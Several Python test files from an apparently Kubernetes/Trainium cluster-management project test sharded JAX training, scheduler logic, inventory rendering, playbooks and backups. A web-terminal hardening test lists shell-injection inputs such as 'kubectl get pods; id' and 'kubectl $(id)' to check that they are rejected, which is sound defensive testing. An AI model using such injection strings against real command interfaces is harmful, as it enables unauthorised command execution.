    # simulate a pre-hashing DB with a plaintext admin row
    db.put("users", "admin", {"id": "admin", "name": "admin",
                              "password": "legacy-pw"}, name="admin")
    api = Api(db, service=None, require_auth=True)
    row = db.get_by_name("users", "admin")
    assert "password" not in row
    assert verify_password("legacy-pw", row["password_hash"])
    status, out = api.login({"username": "admin", "password": "legacy-pw"})
    assert status == 200 and out["token"]


def test_slice_subscript():
    ctx = {"groups": {"kube_control_plane": ["m0", "m1", "m2"]}}
    assert render("{{ groups.kube_control_plane[1:] | join(',') }}", ctx) == "m1,m2"
    assert render("{{ groups.kube_control_plane[:2] | join(',') }}", ctx) == "m0,m1"
    assert render("{{ groups.kube_control_plane[0] }}", ctx) == "m0"
