"""Smoke for tools/gateway_probe.py (ISSUE 11): the replica-kill chaos
drill must pass end to end on CPU in fast mode.  The drill asserts the
interesting invariants itself (zero caller-visible failures across a
SIGKILL, breaker open within the window, half-open re-entry, drain,
shed, hedge, trace, membership sync) and exits nonzero on any miss —
this test just runs it the way CI and sweep.py do."""

import json
import os
import subprocess
import sys

REPO = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
PROBE = os.path.join(REPO, "tools", "gateway_probe.py")


def test_gateway_probe_fast_mode_passes():
    """The sweep row's exact command under KO_PROBE_FAST: exit 0 IS the
    zero-visible-failures + breaker-recovery acceptance check."""
    env = dict(os.environ, KO_PROBE_FAST="1", JAX_PLATFORMS="cpu")
    proc = subprocess.run(
        [sys.executable, PROBE], env=env, cwd=REPO, timeout=300,
        stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True)
    assert proc.returncode == 0, proc.stdout[-4000:]
    last = [ln for ln in proc.stdout.splitlines()
            if ln.strip().startswith("{")][-1]
    out = json.loads(last)
    assert out["probe"] == "gateway" and out["checks_failed"] == 0
    assert out["failures"] == 0 and out["requests"] >= 20
