"""Sharded-vs-single-device equivalence on the virtual 8-device CPU mesh."""

from dataclasses import replace

import jax
import jax.numpy as jnp
import numpy as np
import pytest

from kubeoperator_trn.models import llama
from kubeoperator_trn.parallel import (
    MeshPlan,
    build_mesh,
    param_specs,
    make_ring_attention,
)
from kubeoperator_trn.parallel.sharding import shardings_for, batch_spec
from kubeoperator_trn.parallel.shard_map_compat import partial_manual_supported
from kubeoperator_trn.train.train_step import make_train_step, TrainStepConfig
from kubeoperator_trn.train.optim import AdamWConfig


CFG = replace(
    llama.PRESETS["llama3_tiny"], compute_dtype="float32", n_kv_heads=4, n_heads=8, dim=64
)

# jax 0.4.x can't mix manual shard_map subgroups with partitioned auto
# axes (GSPMD aborts); downgrade those tests to pure-manual plans there.
# Mixed-plan coverage rides on jax >= 0.5 (stable jax.shard_map).
_PM = partial_manual_supported()
TP_PLAN = MeshPlan(dp=2, fsdp=2, tp=2) if _PM else MeshPlan(tp=2)
PP_PLAN = MeshPlan(dp=2, tp=2, pp=2) if _PM else MeshPlan(pp=2)


def _batch(seq=32, bsz=8):
    k = jax.random.key(42)
    toks = jax.random.randint(k, (bsz, seq + 1), 0, CFG.vocab_size)
    return {"inputs": toks[:, :-1], "targets": toks[:, 1:]}


def _reference_loss(params, batch):
    return float(llama.loss_fn(CFG, params, batch))


@pytest.mark.parametrize(
    "plan",
    [
        MeshPlan(dp=8),
        MeshPlan(dp=2, fsdp=2, tp=2),
        MeshPlan(fsdp=4, tp=2),
        MeshPlan(dp=2, fsdp=2, sp=2),
        MeshPlan(dp=1, fsdp=2, sp=2, tp=2),
    ],
)
def test_sharded_loss_matches_single_device(plan):
    assert jax.device_count() == 8
    params = llama.init_params(CFG, jax.random.key(0))
    batch = _batch()
    want = _reference_loss(params, batch)

    cfg = TrainStepConfig(model=CFG, optim=AdamWConfig(), plan=plan)
    mesh = build_mesh(plan)
    attn_fn = make_ring_attention(mesh, CFG.n_kv_heads) if plan.sp > 1 else None

    pspecs = shardings_for(mesh, param_specs(params))
    sp = jax.device_put(params, pspecs)
    sb = jax.device_put(batch, jax.NamedSharding(mesh, batch_spec()))

    @jax.jit
    def sharded_loss(p, b):
        return llama.loss_fn(CFG, p, b, attn_fn=attn_fn)

    got = float(sharded_loss(sp, sb))
    np.testing.assert_allclose(got, want, rtol=2e-4)


def test_train_step_sharded_runs_and_improves():
    plan = TP_PLAN
    cfg = TrainStepConfig(
        model=CFG, optim=AdamWConfig(lr=5e-3, warmup_steps=2, total_steps=50), plan=plan
    )
    step, init_state, init_sharded, make_jitted, mesh = make_train_step(cfg)
    state = init_sharded(jax.random.key(0))
    jitted = make_jitted(state)
    bsharding = jax.NamedSharding(mesh, batch_spec())
    losses = []
    for i in range(8):
        batch = jax.device_put(_batch(seq=32, bsz=8), bsharding)
        state, metrics = jitted(state, batch)
        losses.append(float(metrics["loss"]))
    assert losses[-1] < losses[0]
    assert np.isfinite(losses).all()


def test_ring_attention_matches_dense():
    from kubeoperator_trn.ops.attention import causal_attention

    mesh = build_mesh(MeshPlan(dp=1, fsdp=2, sp=2, tp=2))
    rng = np.random.default_rng(0)
    b, s, h, kvh, d = 2, 16, 8, 4, 8
    q = jnp.asarray(rng.normal(size=(b, s, h, d)), jnp.float32)
    k = jnp.asarray(rng.normal(size=(b, s, kvh, d)), jnp.float32)
    v = jnp.asarray(rng.normal(size=(b, s, kvh, d)), jnp.float32)
    dense = causal_attention(q, k, v)
    ring = make_ring_attention(mesh, kvh)

    @jax.jit
    def run(q, k, v):
        return ring(q, k, v)

    got = run(q, k, v)
    np.testing.assert_allclose(np.asarray(got), np.asarray(dense), rtol=2e-4, atol=2e-4)


def test_pipeline_parallel_loss_matches_dense():
    from dataclasses import replace
    from kubeoperator_trn.parallel.pipeline import make_pp_loss, pp_param_specs
    from kubeoperator_trn.parallel.sharding import param_specs

    cfg = replace(CFG, n_layers=4)
    params = llama.init_params(cfg, jax.random.key(0))
    batch = _batch(seq=16, bsz=8)
    want = float(llama.loss_fn(cfg, params, batch))

    plan = PP_PLAN
    mesh = build_mesh(plan)
    pspecs = pp_param_specs(params, param_specs(params))
    sp = jax.device_put(params, shardings_for(mesh, pspecs))
    sb = jax.device_put(batch, jax.NamedSharding(mesh, batch_spec()))
    loss = make_pp_loss(cfg, mesh, n_microbatches=4)
    got = float(jax.jit(loss)(sp, sb))
    np.testing.assert_allclose(got, want, rtol=2e-4)


@pytest.mark.skipif(
    not _PM,
    reason="0.4.x shard_map transpose breaks on the pp schedule "
           "(_SpecError in backward; fixed by the stable jax.shard_map)",
)
def test_pipeline_train_step_improves():
    from dataclasses import replace

    cfg = replace(CFG, n_layers=4)
    plan = PP_PLAN
    tcfg = TrainStepConfig(
        model=cfg, optim=AdamWConfig(lr=5e-3, warmup_steps=2, total_steps=50),
        plan=plan, microbatches=2,
    )
    step, init_state, init_sharded, make_jitted, mesh = make_train_step(tcfg)
    state = init_sharded(jax.random.key(0))
    jitted = make_jitted(state)
    bsharding = jax.NamedSharding(mesh, batch_spec())
    losses = []
    for _ in range(6):
        batch = jax.device_put(_batch(seq=16, bsz=8), bsharding)
        state, metrics = jitted(state, batch)
        losses.append(float(metrics["loss"]))
    assert losses[-1] < losses[0]
    assert np.isfinite(losses).all()


def test_manual_tp_loss_matches_dense():
    from kubeoperator_trn.parallel.tensor_parallel import make_tp_loss, tp_manual_specs
    from kubeoperator_trn.parallel.sharding import param_specs

    params = llama.init_params(CFG, jax.random.key(0))
    batch = _batch(seq=16, bsz=8)
    want = _reference_loss(params, batch)

    mesh = build_mesh(TP_PLAN)
    sp = jax.device_put(params, shardings_for(mesh, param_specs(params)))
    sb = jax.device_put(batch, jax.NamedSharding(mesh, batch_spec()))
    loss = make_tp_loss(CFG, mesh)
    got = float(jax.jit(loss)(sp, sb))
    np.testing.assert_allclose(got, want, rtol=2e-4)


def test_manual_tp_loss_tied_embeddings():
    from dataclasses import replace
    from kubeoperator_trn.parallel.tensor_parallel import make_tp_loss
    from kubeoperator_trn.parallel.sharding import param_specs

    cfg = replace(CFG, tie_embeddings=True)
    params = llama.init_params(cfg, jax.random.key(0))
    batch = _batch(seq=16, bsz=8)
    want = float(llama.loss_fn(cfg, params, batch))
    mesh = build_mesh(TP_PLAN)
    sp = jax.device_put(params, shardings_for(mesh, param_specs(params)))
    sb = jax.device_put(batch, jax.NamedSharding(mesh, batch_spec()))
    got = float(jax.jit(make_tp_loss(cfg, mesh))(sp, sb))
    np.testing.assert_allclose(got, want, rtol=2e-4)


def test_manual_tp_train_step_improves():
    plan = TP_PLAN
    cfg = TrainStepConfig(
        model=CFG, optim=AdamWConfig(lr=5e-3, warmup_steps=2, total_steps=50),
        plan=plan,
    )
    step, init_host, init_sharded, make_jitted, mesh = make_train_step(cfg)
    state = init_host(0)
    jitted = make_jitted(state)
    bsharding = jax.NamedSharding(mesh, batch_spec())
    losses = []
    for _ in range(6):
        batch = jax.device_put(_batch(seq=16, bsz=8), bsharding)
        state, metrics = jitted(state, batch)
        losses.append(float(metrics["loss"]))
    assert losses[-1] < losses[0]
    assert np.isfinite(losses).all()


def test_grad_accum_matches_single_step():
    """K-microstep accumulation computes the same update as one big
    batch (same tokens, same order-insensitive mean loss/grads)."""
    import jax
    import jax.numpy as jnp
    from dataclasses import replace

    from kubeoperator_trn.models import llama
    from kubeoperator_trn.parallel.mesh import MeshPlan, build_mesh
    from kubeoperator_trn.parallel.sharding import batch_spec
    from kubeoperator_trn.train.optim import AdamWConfig
    from kubeoperator_trn.train.train_step import TrainStepConfig, make_train_step

    plan = MeshPlan(fsdp=4)
    mesh = build_mesh(plan, devices=jax.devices()[:4])
    cfg = replace(llama.PRESETS["llama3_tiny"], compute_dtype="float32")
    toks = jax.random.randint(jax.random.key(3), (16, 33), 0, cfg.vocab_size)
    batch = {"inputs": toks[:, :-1].astype(jnp.int32),
             "targets": toks[:, 1:].astype(jnp.int32)}

    results = {}
    for accum in (1, 4):
        tcfg = TrainStepConfig(model=cfg, optim=AdamWConfig(), plan=plan,
                               grad_accum=accum)
        step, ih, init_sharded, make_jitted, mesh2 = make_train_step(tcfg, mesh=mesh)
        state = init_sharded(jax.random.key(0))
        jitted = make_jitted(state)
        b = jax.device_put(batch, jax.NamedSharding(mesh2, batch_spec()))
        state, metrics = jitted(state, b)
        results[accum] = (float(metrics["loss"]),
                          float(metrics["grad_norm"]),
                          jax.tree_util.tree_map(lambda x: x, state["params"]))
    l1, g1, p1 = results[1]
    l4, g4, p4 = results[4]
    assert abs(l1 - l4) < 1e-4, (l1, l4)
    assert abs(g1 - g4) / max(g1, 1e-9) < 1e-3, (g1, g4)
    diffs = jax.tree_util.tree_map(
        lambda a, b: float(jnp.max(jnp.abs(a.astype(jnp.float32) - b.astype(jnp.float32)))), p1, p4)
    assert max(jax.tree_util.tree_leaves(diffs)) < 1e-4, diffs


def test_bf16_moments_roundtrip():
    import jax
    import jax.numpy as jnp
    from dataclasses import replace

    from kubeoperator_trn.models import llama
    from kubeoperator_trn.parallel.mesh import MeshPlan, build_mesh
    from kubeoperator_trn.parallel.sharding import batch_spec
    from kubeoperator_trn.train.optim import AdamWConfig
    from kubeoperator_trn.train.train_step import TrainStepConfig, make_train_step

    plan = MeshPlan(fsdp=2)
    mesh = build_mesh(plan, devices=jax.devices()[:2])
    cfg = replace(llama.PRESETS["llama3_tiny"], compute_dtype="float32")
    tcfg = TrainStepConfig(
        model=cfg, plan=plan,
        optim=AdamWConfig(moments_dtype="bfloat16"))
    step, init_host, init_sharded, make_jitted, mesh = make_train_step(tcfg, mesh=mesh)
    state = init_host(0)
    m_leaf = jax.tree_util.tree_leaves(state["opt"]["m"])[0]
    assert m_leaf.dtype == jnp.bfloat16
    jitted = make_jitted(state)
    toks = jax.random.randint(jax.random.key(1), (8, 33), 0, cfg.vocab_size)
    batch = {"inputs": toks[:, :-1].astype(jnp.int32),
             "targets": toks[:, 1:].astype(jnp.int32)}
    batch = jax.device_put(batch, jax.NamedSharding(mesh, batch_spec()))
    losses = []
    for _ in range(3):
        state, metrics = jitted(state, batch)
        losses.append(float(metrics["loss"]))
    assert all(jnp.isfinite(l) for l in losses)
    assert losses[-1] < losses[0]
    assert jax.tree_util.tree_leaves(state["opt"]["m"])[0].dtype == jnp.bfloat16


def test_ulysses_matches_dense_and_ring():
    """Ulysses A2A attention == dense causal == ring attention on a
    CPU sp mesh (global numerics identical up to fp tolerance)."""
    import jax
    import jax.numpy as jnp
    from jax.sharding import NamedSharding, PartitionSpec as P

    from kubeoperator_trn.ops.attention import causal_attention
    from kubeoperator_trn.parallel.mesh import MeshPlan, build_mesh
    from kubeoperator_trn.parallel.ring_attention import make_ring_attention
    from kubeoperator_trn.parallel.ulysses import make_ulysses_attention

    plan = MeshPlan(sp=4, tp=2)
    mesh = build_mesh(plan)
    b, s, h, kv, d = 2, 32, 8, 4, 16
    ks = jax.random.split(jax.random.key(0), 3)
    q = jax.random.normal(ks[0], (b, s, h, d), jnp.float32)
    k = jax.random.normal(ks[1], (b, s, kv, d), jnp.float32)
    v = jax.random.normal(ks[2], (b, s, kv, d), jnp.float32)

    dense = causal_attention(q, k, v)

    spec = NamedSharding(mesh, P(("dp", "fsdp"), "sp", "tp", None))
    qs, ks_, vs = (jax.device_put(x, spec) for x in (q, k, v))

    uly = jax.jit(make_ulysses_attention(mesh, kv))(qs, ks_, vs)
    assert jnp.max(jnp.abs(uly - dense)) < 2e-5

    ring = jax.jit(make_ring_attention(mesh, kv))(qs, ks_, vs)
    assert jnp.max(jnp.abs(ring - dense)) < 2e-5


def test_moe_ep_fsdp_lowering_per_shard_experts():
    """EP×FSDP composite: make_ep_moe_block's shard_map hands each shard
    its own [E/ep, ...] expert slice (asserted at trace time inside the
    body — NOT a full [E, ...] replica) and the compiled module carries
    the all-to-all dispatch pair."""
    from dataclasses import replace as _replace

    from kubeoperator_trn.models import moe

    cfg = _replace(moe.MOE_PRESETS["moe_tiny"], compute_dtype="float32")
    plan = MeshPlan(dp=1, fsdp=2, ep=4)
    mesh = build_mesh(plan)
    ep = mesh.shape["ep"]
    seen = {}

    def spy_ffn(x, wg, wu, wd):
        from kubeoperator_trn.kernels.grouped_ffn_nki import grouped_ffn

        seen["x"] = x.shape
        seen["wg"] = wg.shape
        return grouped_ffn(x, wg, wu, wd)

    block = moe.make_ep_moe_block(mesh, cfg, ffn_fn=spy_ffn)
    params = moe.init_params(cfg, jax.random.key(0))
    lp = jax.tree_util.tree_map(lambda a: a[0], params["layers"])
    x = jax.random.normal(jax.random.key(1), (8, 16, cfg.dim), jnp.float32)

    lowered = jax.jit(lambda x, lp: block(cfg, x, lp)).lower(x, lp)
    hlo = lowered.compile().as_text()
    assert "all-to-all" in hlo, "EP dispatch must lower to all-to-all"

    # trace-time shapes inside the manual body: the expert (leading) dim
    # of weights AND of the post-all-to-all grouped buffer is E/ep.
    e_loc = cfg.n_experts // ep
    assert seen["wg"][0] == e_loc, seen
    assert seen["x"][0] == e_loc, seen
    assert seen["wg"][0] != cfg.n_experts  # no full replication

    # and the block is numerically a drop-in: matches the single-device
    # block at ample capacity (per-shard queues never overflow).
    big = _replace(cfg, capacity_factor=64.0)
    block_big = moe.make_ep_moe_block(mesh, big)
    y, aux, stats = jax.jit(lambda x, lp: block_big(big, x, lp))(x, lp)
    y1, aux1, stats1 = moe.moe_block_stats(big, x, lp, dispatch="grouped")
    np.testing.assert_allclose(np.asarray(y), np.asarray(y1), atol=2e-5)
    np.testing.assert_allclose(float(aux), float(aux1), rtol=1e-5)
    assert float(stats["moe_dropped_tokens"]) == 0.0


def test_train_step_ulysses_mechanism():
    import jax
    import jax.numpy as jnp
    from dataclasses import replace

    from kubeoperator_trn.models import llama
    from kubeoperator_trn.parallel.mesh import MeshPlan, build_mesh
    from kubeoperator_trn.parallel.sharding import batch_spec
    from kubeoperator_trn.train.optim import AdamWConfig
    from kubeoperator_trn.train.train_step import TrainStepConfig, make_train_step

    plan = MeshPlan(fsdp=2, sp=2, tp=2)
    mesh = build_mesh(plan)
    cfg = replace(llama.PRESETS["llama3_tiny"], compute_dtype="float32",
                  n_heads=8, n_kv_heads=4)
    tcfg = TrainStepConfig(model=cfg, optim=AdamWConfig(), plan=plan,
                           sp_mechanism="ulysses")
    step, ih, init_sharded, make_jitted, mesh = make_train_step(tcfg, mesh=mesh)
    state = init_sharded(jax.random.key(0))
    jitted = make_jitted(state)
    toks = jax.random.randint(jax.random.key(1), (8, 65), 0, cfg.vocab_size)
    batch = {"inputs": toks[:, :-1].astype(jnp.int32),
             "targets": toks[:, 1:].astype(jnp.int32)}
    batch = jax.device_put(batch, jax.NamedSharding(mesh, batch_spec()))
    state, metrics = jitted(state, batch)
    assert jnp.isfinite(float(metrics["loss"]))
