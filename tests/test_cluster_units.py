"""Unit tests: inventory golden, scheduler extender, neuron monitor,
provisioner plan, local playbook runner."""

import json

from kubeoperator_trn.cluster import scheduler_extender as se
from kubeoperator_trn.cluster import neuron_monitor as nm
from kubeoperator_trn.cluster.inventory import render_inventory
from kubeoperator_trn.cluster.provisioner import render_plan, FakeCloud, EC2Trn2Provisioner
from kubeoperator_trn.cluster.db import DB


CLUSTER = {
    "id": "cid",
    "name": "golden",
    "spec": {
        "version": "v1.28.8", "runtime": "containerd", "cni": "calico",
        "ingress": "nginx", "storage": "nfs",
        "network_cidr": "10.244.0.0/16", "service_cidr": "10.96.0.0/12",
        "neuron": True, "efa": True, "instance_type": "trn2.48xlarge",
        "provider": "ec2",
    },
    "nodes": [
        {"name": "m0", "host_id": "h0", "role": "master", "status": "x", "labels": {}, "id": "n0"},
        {"name": "w0", "host_id": "h1", "role": "worker", "status": "x", "labels": {}, "id": "n1"},
    ],
}
HOSTS = [
    {"id": "h0", "name": "hm", "ip": "10.0.0.1", "credential_id": "c0", "port": 22, "facts": {}},
    {"id": "h1", "name": "hw", "ip": "10.0.0.2", "credential_id": "c0", "port": 2222, "facts": {}},
]
CREDS = [{"id": "c0", "name": "k", "username": "ubuntu", "type": "privateKey", "secret": "", "port": 22}]


def test_inventory_golden():
    inv = render_inventory(CLUSTER, HOSTS, CREDS,
                           manifest={"components": {"etcd": "3.5.12"}, "neuron": {"driver": "2.18"}})
    golden = {
        "all": {
            "hosts": {
                "m0": {"ansible_host": "10.0.0.1", "ansible_port": 22,
                       "ansible_user": "ubuntu",
                       "ansible_ssh_private_key_file": "/etc/ko/keys/c0"},
                "w0": {"ansible_host": "10.0.0.2", "ansible_port": 2222,
                       "ansible_user": "ubuntu",
                       "ansible_ssh_private_key_file": "/etc/ko/keys/c0"},
            },
            "children": {
                "kube_control_plane": {"hosts": {"m0": {}}},
                "kube_node": {"hosts": {"w0": {}}},
                "etcd": {"hosts": {"m0": {}}},
                "neuron": {"hosts": {"m0": {}, "w0": {}}},
                "efa": {"hosts": {"m0": {}, "w0": {}}},
            },
            "vars": {
                "cluster_name": "golden", "kube_version": "v1.28.8",
                "container_runtime": "containerd", "cni_plugin": "calico",
                "ingress_controller": "nginx", "storage_class": "nfs",
                "pod_network_cidr": "10.244.0.0/16",
                "service_cidr": "10.96.0.0/12",
                "neuron_enabled": True, "efa_enabled": True,
                "components": {"etcd": "3.5.12"},
                "neuron_stack": {"driver": "2.18"},
            },
        }
    }
    assert inv == golden


def _node(name, cap, alloc, per_chip=None):
    st = {"capacity": {se.NEURON_RESOURCE: cap},
          "allocated": {se.NEURON_RESOURCE: alloc}}
    if per_chip is not None:
        st["neuron_free_per_chip"] = per_chip
    return {"metadata": {"name": name}, "status": st}


def _pod(cores):
    return {"spec": {"containers": [
        {"resources": {"requests": {se.NEURON_RESOURCE: cores}}}]}}


def test_extender_filters_unaligned_nodes():
    payload = {
        "pod": _pod(16),
        "nodes": {"items": [
            _node("full", 128, 0),                     # 16 chips worth? 128 cores free
            _node("fragmented", 32, 16, [4, 4, 4, 4]),  # 16 free but no whole chips
            _node("busy", 32, 32),
        ]},
    }
    out = se.filter_nodes(payload)
    names = [n["metadata"]["name"] for n in out["nodes"]["items"]]
    assert names == ["full"]
    assert "fragmented" in out["failedNodes"]
    assert "busy" in out["failedNodes"]


def test_extender_prioritize_prefers_tight_fit():
    payload = {
        "pod": _pod(4),
        "nodes": {"items": [
            _node("tight", 16, 0, [4, 8]),    # exact-fit partial chip
            _node("wasteful", 16, 0, [8, 8]),  # must break a full chip
        ]},
    }
    scores = {s["host"]: s["score"] for s in se.prioritize_nodes(payload)}
    assert scores["tight"] > scores["wasteful"]


def test_extender_whole_chip_requests():
    # 2 whole chips requested via device resource
    pod = {"spec": {"containers": [
        {"resources": {"requests": {se.NEURON_DEVICE_RESOURCE: 2}}}]}}
    assert se.pod_core_request(pod) == 16
    out = se.filter_nodes({"pod": pod, "nodes": {"items": [
        _node("two-chips", 16, 0, [8, 8]),
        _node("one-chip", 16, 8, [8, 0]),
    ]}})
    names = [n["metadata"]["name"] for n in out["nodes"]["items"]]
    assert names == ["two-chips"]


def test_neuron_monitor_prometheus_and_rollup():
    sample = nm.fake_monitor_sample(n_devices=2, cores_per_device=8, utilization=0.5)
    text = nm.to_prometheus(sample, node="n1")
    assert 'neuroncore_utilization_ratio{node="n1",device="0",core="0"}' in text
    assert "neuron_device_memory_used_bytes" in text
    roll = nm.aggregate_utilization([sample])
    assert roll["cores"] == 16
    assert 0.2 < roll["mean_core_utilization"] < 0.8


def test_mfu_formula():
    # 40% of 16 cores' peak
    flops_per_token = 6e9
    peak = 16 * nm.TRN2_BF16_TFLOPS_PER_CORE
    toks = 0.4 * peak / flops_per_token
    assert abs(nm.mfu_from_throughput(toks, flops_per_token, 16) - 0.4) < 1e-9


def test_provisioner_plan_and_fake_apply():
    plan = render_plan(CLUSTER)
    assert plan["meta"]["efa_per_node"] == 16
    inst = plan["resource"]["aws_instance"]
    assert set(inst) == {"m0", "w0"}
    assert inst["m0"]["placement_group"] == "golden"
    assert inst["m0"]["network_interfaces"][0]["interface_type"] == "efa"

    db = DB()
    for h in HOSTS:
        db.put("hosts", h["id"], h)
    db.put("clusters", CLUSTER["id"], CLUSTER)
    prov = EC2Trn2Provisioner(db, FakeCloud())
    prov.apply(json.loads(json.dumps(CLUSTER)))
    h0 = db.get("hosts", "h0")
    assert h0["facts"]["neuron_devices"] == 16
    assert h0["facts"]["neuron_cores"] == 128
    assert h0["facts"]["efa_interfaces"] == 16
    assert h0["ip"].startswith("10.0.")


def test_local_playbook_runner_executes_shell(tmp_path):
    from kubeoperator_trn.cluster.runner import LocalPlaybookRunner

    marker = tmp_path / "marker"
    pb = tmp_path / "demo.yml"
    pb.write_text(f"""
- name: demo
  hosts: all
  tasks:
    - name: touch marker
      shell: touch {marker}
      creates: {marker}
    - name: check marker
      check: test -f {marker}
""")
    runner = LocalPlaybookRunner(str(tmp_path))
    lines = []
    res = runner.run("demo", {}, {}, lines.append)
    assert res.ok and marker.exists()
    # idempotent re-run skips via creates:
    res2 = runner.run("demo", {}, {}, lines.append)
    assert res2.ok
    assert any("skip (exists)" in l for l in lines)


def test_playbooks_parse_and_cover_phases():
    """Every phase named by the service layer is executable: either a
    playbook file or a registered builtin phase (compile_farm)."""
    import os
    import yaml
    from kubeoperator_trn.cluster import service as S
    from kubeoperator_trn.cluster.compile_farm import BUILTIN_PHASES

    pb_dir = os.path.join(os.path.dirname(S.__file__), "playbooks")
    all_phases = set(
        S.CREATE_PHASES + S.NEURON_PHASES + S.EFA_PHASES + S.SCALE_PHASES
        + S.UPGRADE_PHASES + S.DELETE_PHASES + S.BACKUP_PHASES
        + S.REPAIR_PHASES
        + [p for phases in S.RESTORE_PHASES.values() for p in phases]
        + ["post-check", "drain-nodes", "remove-nodes", "app-deploy"]
    )
    for phase in all_phases:
        if phase in BUILTIN_PHASES:
            # Python-implemented phase: the engine dispatches it before
            # the playbook runner.  A same-named playbook would be
            # shadowed, so it must NOT also exist.
            assert not os.path.exists(
                os.path.join(pb_dir, f"{phase}.yml")), (
                f"builtin phase {phase} shadowed by a playbook file")
            assert callable(BUILTIN_PHASES[phase])
            continue
        path = os.path.join(pb_dir, f"{phase}.yml")
        assert os.path.exists(path), f"missing playbook {phase}"
        with open(path) as f:
            doc = yaml.safe_load(f)
        assert isinstance(doc, list) and doc[0].get("tasks"), phase


# -- web terminal hardening --------------------------------------------

def test_parse_command_allowlist_and_metachars():
    from kubeoperator_trn.cluster.terminal import parse_command

    assert parse_command("kubectl get pods -n kube-system") == [
        "kubectl", "get", "pods", "-n", "kube-system"]
    import pytest as _pytest
    for bad in ["kubectl get pods; id", "kubectl|sh", "kubectl $(id)",
                "kubectlx", "bash", "", "   ", "kubectl 'unclosed"]:
        with _pytest.raises(ValueError):
            parse_command(bad)


def test_kubectl_executor_no_shell_and_tmpfile_cleanup(monkeypatch, tmp_path):
    """KubectlExecutor execs argv directly (no shell) and always removes
    the kubeconfig tempfile, created 0600."""
    import os
    import stat
    import tempfile as _tempfile
    from kubeoperator_trn.cluster.terminal import ExecSession, KubectlExecutor

    created = {}
    real_mkstemp = _tempfile.mkstemp

    def spy_mkstemp(*a, **kw):
        fd, path = real_mkstemp(*a, **kw)
        created["path"] = path
        created["mode"] = stat.S_IMODE(os.fstat(fd).st_mode)
        return fd, path

    monkeypatch.setattr(_tempfile, "mkstemp", spy_mkstemp)

    # point the executor at a fake kubectl on PATH that echoes its argv
    bindir = tmp_path / "bin"
    bindir.mkdir()
    fake = bindir / "kubectl"
    fake.write_text("#!/bin/sh\necho ARGV:\"$@\"\n")
    fake.chmod(0o755)
    monkeypatch.setattr(
        "kubeoperator_trn.cluster.terminal.subprocess.Popen",
        _popen_with_path(str(bindir)),
    )

    sess = ExecSession("s1", "kubectl get pods")
    KubectlExecutor().run("kubectl get pods", "apiVersion: v1", sess)
    assert sess.done and sess.rc == 0, sess.snapshot()
    assert any("ARGV:get pods" in l for l in sess.lines), sess.lines
    assert created["mode"] == 0o600
    assert not os.path.exists(created["path"])  # unlinked in finally

    # executor-level defense in depth: injection raises before any exec
    sess2 = ExecSession("s2", "x")
    KubectlExecutor().run("kubectl get pods; id", "", sess2)
    assert sess2.rc == -1 and sess2.done


def _popen_with_path(bindir):
    # capture the real Popen now: the monkeypatch replaces the attribute
    # on the (shared) subprocess module itself
    import subprocess as _sp

    real_popen = _sp.Popen

    def popen(argv, env=None, **kw):
        env = dict(env or {})
        env["PATH"] = bindir + ":" + env.get("PATH", "")
        return real_popen(argv, env=env, **kw)

    return popen


def test_inference_template_renders_server_and_service():
    from kubeoperator_trn.cluster.apps import render_job

    cluster = {"id": "c", "name": "serve1",
               "spec": {"instance_type": "trn2.48xlarge", "efa": False}}
    m = render_job("llama3-8b-serve", cluster)
    assert m["kind"] == "Deployment"  # long-running, not a batch Job
    spec = m["spec"]
    assert "backoffLimit" not in spec and "completions" not in spec
    pod = spec["template"]["spec"]
    assert pod["restartPolicy"] == "Always"
    c = pod["containers"][0]
    assert c["name"] == "server"
    assert "infer.server" in " ".join(c["command"])
    assert c["ports"][0]["containerPort"] == 8000
    env = {e["name"]: e["value"] for e in c["env"]}
    assert env["KO_MAX_BATCH"] == "32" and env["KO_MAX_SEQ"] == "8192"
    assert "KO_MESH_PLAN" not in env and "FI_PROVIDER" not in env
    # serves the TRAINING job's checkpoints, not an empty serve-named PVC
    claims = {v.get("persistentVolumeClaim", {}).get("claimName")
              for v in pod["volumes"]}
    assert "llama3-8b-pretrain-serve1-ckpt" in claims
    svc = m["ko"]["service"]
    assert svc["kind"] == "Service" and svc["spec"]["ports"][0]["port"] == 8000
    assert svc["spec"]["selector"] == {"app": m["metadata"]["name"]}
    # training templates unchanged
    m2 = render_job("llama3-1b-pretrain", cluster)
    assert m2["spec"]["template"]["spec"]["containers"][0]["name"] == "trainer"
    # training gets a HEADLESS service for the coordinator DNS names
    assert m2["ko"]["service"]["spec"]["clusterIP"] == "None"
    env2 = {e["name"]: e.get("value") for e in
            m2["spec"]["template"]["spec"]["containers"][0]["env"]}
    name2 = m2["metadata"]["name"]
    assert env2["KO_COORDINATOR"] == f"{name2}-0.{name2}:12321"
    assert env2["KO_NUM_PROCESSES"] == "1"


def test_inference_template_requests_no_efa():
    from kubeoperator_trn.cluster.apps import render_job

    cluster = {"id": "c", "name": "s2",
               "spec": {"instance_type": "trn2.48xlarge", "efa": True}}
    m = render_job("llama3-8b-serve", cluster)
    res = m["spec"]["template"]["spec"]["containers"][0]["resources"]
    assert res["requests"]["vpc.amazonaws.com/efa"] == 0
    m2 = render_job("llama3-8b-pretrain", cluster)
    res2 = m2["spec"]["template"]["spec"]["containers"][0]["resources"]
    assert res2["requests"]["vpc.amazonaws.com/efa"] == 16


# -- scheduled backups --------------------------------------------------

def test_backup_scheduler_triggers_due_clusters():
    from dataclasses import asdict

    from kubeoperator_trn.cluster import entities as E
    from kubeoperator_trn.cluster.backup_scheduler import BackupScheduler
    from kubeoperator_trn.cluster.runner import FakeRunner
    from kubeoperator_trn.cluster.service import ClusterService
    from kubeoperator_trn.cluster.taskengine import TaskEngine

    db = DB(":memory:")
    engine = TaskEngine(db, FakeRunner(), workers=1)
    svc = ClusterService(db, engine)
    now = [1000.0 * 3600]
    sched = BackupScheduler(db, svc, now_fn=lambda: now[0])

    spec = asdict(E.ClusterSpec(backup_interval_h=6.0))
    c = asdict(E.Cluster(name="sched1", spec=spec))
    c["status"] = E.ST_RUNNING
    c["created_at"] = now[0] - 7 * 3600  # interval already elapsed
    db.put("clusters", c["id"], c)
    # a second cluster without scheduling stays untouched
    c2 = asdict(E.Cluster(name="nosched", spec=asdict(E.ClusterSpec())))
    c2["status"] = E.ST_RUNNING
    db.put("clusters", c2["id"], c2)

    sched.tick()
    assert sched.triggered == [c["id"]]
    assert any(b["cluster_id"] == c["id"] for b in db.list("backups"))

    # not due again until the interval passes from the NEW backup
    sched.tick()
    assert len(sched.triggered) == 1
    now[0] += 6.5 * 3600
    sched.tick()
    assert len(sched.triggered) == 2
